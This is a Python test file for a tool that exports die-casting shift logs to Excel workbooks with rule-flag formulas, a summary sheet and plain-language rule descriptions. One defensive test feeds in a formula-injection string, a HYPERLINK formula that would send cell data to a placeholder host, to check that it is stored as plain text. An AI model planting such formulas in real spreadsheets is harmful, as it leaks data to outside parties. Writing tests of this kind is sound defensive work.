import datetime as dt

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from pocmvp.case import factory
from pocmvp.case import plant_workbook as workbook
from pocmvp.case.factory import ShiftLogError
from pocmvp.case.plant_rule import WORKBOOK_COLUMNS, Rule

HOT_OR_COLD = Rule.of(
    ("melt_temp_c", ">", 707.2), ("die_temp_c", "<", 195.5), schema=factory.SCHEMA
)


@pytest.fixture
def small(shift_log):
    """Three hundred parts over two months, plus the tricky rows."""
    parts = pd.concat([shift_log.head(150), shift_log.tail(150)])
    return pd.concat([parts, workbook.tricky_rows(shift_log, HOT_OR_COLD)], ignore_index=True)


@pytest.fixture
def written(small, tmp_path):
    path = workbook.write_rule_workbook(small, HOT_OR_COLD, tmp_path / "rule.xlsx", notes=["n"])
    return load_workbook(path)


def test_three_sheets_and_only_columns_known_at_decision_time(written):
    assert written.sheetnames == [
        workbook.DATA_SHEET,
        workbook.SUMMARY_SHEET,
        workbook.RULE_SHEET,
        workbook.REJECTED_SHEET,
    ]
    assert written[workbook.REJECTED_SHEET].max_row == 1  # a valid shift log: headers only
    data = written[workbook.DATA_SHEET]
    headers = [c.value for c in data[1]]
    assert headers == [*WORKBOOK_COLUMNS, workbook.FLAG_HEADER]
    assert not {"defect", "defect_type", "rework_minutes"} & set(headers)


def test_every_row_has_the_live_rule_formula(written, small):
    data = written[workbook.DATA_SHEET]
    assert data.max_row == len(small) + 1
    column = [c.value for c in data[workbook.FLAG_COLUMN]][1:]
    assert column == [HOT_OR_COLD.excel_formula(r) for r in range(2, len(small) + 2)]
    assert data[f"{workbook.FLAG_COLUMN}2"].data_type == "f"


def test_text_never_becomes_a_formula(written, small):
    data = written[workbook.DATA_SHEET]
    supplier = WORKBOOK_COLUMNS.index("supplier") + 1
    texts = {
        data.cell(r, supplier).value: data.cell(r, supplier) for r in range(2, data.max_row + 1)
    }
    for text in workbook.TRICKY_TEXTS:
        assert texts[text].data_type == "s", text
    link = texts['=HYPERLINK("http://x.example/?"&A2,"x")']
    assert link.value.startswith("=HYPERLINK")
    formulas = [
        c.coordinate
        for row in data.iter_rows(max_col=len(WORKBOOK_COLUMNS))
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    assert data.cell(len(small) + 1, 1).value == "=A1"  # a part id that looks like a formula


def test_numbers_dates_and_missing_values_keep_their_types(written, small):
    data = written[workbook.DATA_SHEET]
    cast_at = data["B2"]
    assert isinstance(cast_at.value, dt.datetime) and cast_at.number_format == "yyyy-mm-dd hh:mm"
    assert cast_at.value == small["cast_at"].iloc[0].to_pydatetime()
    melt = WORKBOOK_COLUMNS.index("melt_temp_c") + 1
    values = [data.cell(r, melt).value for r in range(2, data.max_row + 1)]
    expected = [None if np.isnan(v) else v for v in small["melt_temp_c"]]
    assert values == expected
    shots = data.cell(2, WORKBOOK_COLUMNS.index("shots_since_maintenance") + 1)
    assert isinstance(shots.value, int)


def test_header_frozen_filter_on_widths_set_and_flags_highlighted(written, small):
    data = written[workbook.DATA_SHEET]
    assert data.freeze_panes == "A2"
    assert data.auto_filter.ref == f"A1:{workbook.FLAG_COLUMN}{len(small) + 1}"
    assert data.column_dimensions["A"].width >= 12
    assert data.column_dimensions["B"].width >= 16
    ranges = {str(r.sqref): r.rules for r in data.conditional_formatting}
    highlight = ranges[f"A2:{workbook.FLAG_COLUMN}{len(small) + 1}"][0]
    assert highlight.formula == [f"${workbook.FLAG_COLUMN}2=TRUE"]


def test_summary_is_made_of_live_formulas(written, small):
    summary = written[workbook.SUMMARY_SHEET]
    cells = workbook.SUMMARY_CELLS
    assert summary[cells["parts"]].value.startswith("=COUNTA(")
    assert summary[cells["flagged"]].value.startswith("=COUNTIF(")
    assert summary[cells["capacity_share"]].value == pytest.approx(0.05)
    assert summary[cells["capacity"]].value.startswith("=INT(")
    assert summary[cells["capacity_used"]].value.startswith("=IF(")
    first = workbook.MONTH_TABLE_FIRST_ROW
    months = sorted(factory.month_of(small).unique())
    assert [summary.cell(first + i, 1).value for i in range(len(months))] == months
    assert summary.cell(first, 5).value.startswith("=COUNTIFS(")


def test_rule_sheet_explains_in_plain_words(written):
    text = [c.value for row in written[workbook.RULE_SHEET].iter_rows() for c in row if c.value]
    assert HOT_OR_COLD.describe() in text
    assert HOT_OR_COLD.excel_formula(2) in text  # stored as text, not as a formula
    assert any("never sends a part" in t for t in text)
    assert "n" in text


def test_control_characters_are_replaced(shift_log, tmp_path):
    log = shift_log.head(3).copy()
    log.loc[log.index[0], "supplier"] = "bell\x07"
    path = workbook.write_rule_workbook(log, HOT_OR_COLD, tmp_path / "x.xlsx")
    supplier = WORKBOOK_COLUMNS.index("supplier") + 1
    assert load_workbook(path)[workbook.DATA_SHEET].cell(2, supplier).value == "bell\ufffd"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda log: log.drop(columns="die_temp_c"), "die_temp_c"),
        (lambda log: log.assign(extra=1), "unexpected column.*extra"),
        (lambda log: log.assign(melt_temp_c=log["melt_temp_c"].astype(str)), "melt_temp_c"),
        (lambda log: log.assign(part_id="P-1"), "repeats a part id"),
        (lambda log: log.assign(die_temp_c=np.nan), "die_temp_c.*missing"),
    ],
)
def test_bad_input_is_refused_before_writing(shift_log, tmp_path, change, message):
    with pytest.raises(ShiftLogError, match=message):
        workbook.write_rule_workbook(change(shift_log.head(5)), HOT_OR_COLD, tmp_path / "x.xlsx")
    assert not (tmp_path / "x.xlsx").exists()


def test_tricky_rows_are_valid_and_sit_on_the_thresholds(shift_log):
    tricky = workbook.tricky_rows(shift_log, HOT_OR_COLD)
    factory.validate_shift_log(tricky)
    assert (tricky["melt_temp_c"] == 707.2).any() and tricky["melt_temp_c"].isna().any()
    assert (tricky["die_temp_c"] == 195.5).any()
    assert set(workbook.TRICKY_TEXTS) <= set(tricky["supplier"])


# --- A rule scoped to shifts (rule v2) -------------------------------------------------------

NIGHT_AWARE = Rule.of(
    ("melt_temp_c", ">", 707.2, ("early", "late")),
    ("melt_temp_c", ">", 713.0, ("night",)),
    ("die_temp_c", "<", 195.5),
    schema=factory.SCHEMA,
)


@pytest.fixture
def scoped(shift_log, tmp_path):
    log = pd.concat(
        [shift_log.head(120), workbook.tricky_rows(shift_log, NIGHT_AWARE)], ignore_index=True
    )
    path = workbook.write_rule_workbook(log, NIGHT_AWARE, tmp_path / "v2.xlsx")
    return log, load_workbook(path)


def test_scoped_rule_formula_reads_the_shift_column(scoped):
    log, book = scoped
    data = book[workbook.DATA_SHEET]
    column = [c.value for c in data[workbook.FLAG_COLUMN]][1:]
    assert column == [NIGHT_AWARE.excel_formula(r) for r in range(2, len(log) + 2)]
    assert data["D1"].value == "shift" and 'EXACT(D2,"night")' in column[0]


def test_scoped_rule_marks_unknown_shifts_and_still_highlights_flags(scoped):
    log, book = scoped
    data = book[workbook.DATA_SHEET]
    ranges = {str(r.sqref): r.rules for r in data.conditional_formatting}
    last = len(log) + 1
    assert ranges[f"A2:{workbook.FLAG_COLUMN}{last}"][0].formula == [
        f"${workbook.FLAG_COLUMN}2=TRUE"
    ]
    (unknown,) = ranges[f"D2:D{last}"]
    assert unknown.formula == ['NOT(OR(EXACT($D2,"early"),EXACT($D2,"late"),EXACT($D2,"night")))']
    assert unknown.dxf.fill.bgColor.rgb == "FF" + workbook.OVER_CAPACITY.removeprefix("#")


def test_scoped_rule_sheet_explains_the_shifts(scoped):
    _, book = scoped
    rows = {
        row[0].value: row[1].value
        for row in book[workbook.RULE_SHEET].iter_rows(min_row=2)
        if len(row) > 1
    }
    assert rows["The rule"] == NIGHT_AWARE.describe()
    assert rows["Formula (row 2)"] == NIGHT_AWARE.excel_formula(2)
    assert "exactly that shift's name" in rows["Shifts"] and "marked red" in rows["Shifts"]
    assert rows["shift"].startswith("early 06-14")
    assert {"melt_temp_c", "die_temp_c"} <= set(rows)


def test_unscoped_rule_sheet_has_no_shift_lines(written):
    labels = [row[0].value for row in written[workbook.RULE_SHEET].iter_rows(min_row=2)]
    assert "Shifts" not in labels and "shift" not in labels
    data = written[workbook.DATA_SHEET]
    assert not any(str(r.sqref).startswith("D2:") for r in data.conditional_formatting)


def test_tricky_rows_sit_on_each_scoped_threshold_inside_and_outside_its_shifts(shift_log):
    tricky = workbook.tricky_rows(shift_log, NIGHT_AWARE)
    factory.validate_shift_log(tricky)
    at_night = tricky[tricky["melt_temp_c"] == 713.0]
    assert set(at_night["shift"]) == {"night", "early"}
    at_day = tricky[tricky["melt_temp_c"] == 707.2]
    assert set(at_day["shift"]) == {"early", "night"}
    assert tricky.loc[tricky["melt_temp_c"].isna(), "shift"].isin(["night", "early"]).all()
    flags = NIGHT_AWARE.flag(tricky)
    assert flags.any() and not flags.all()
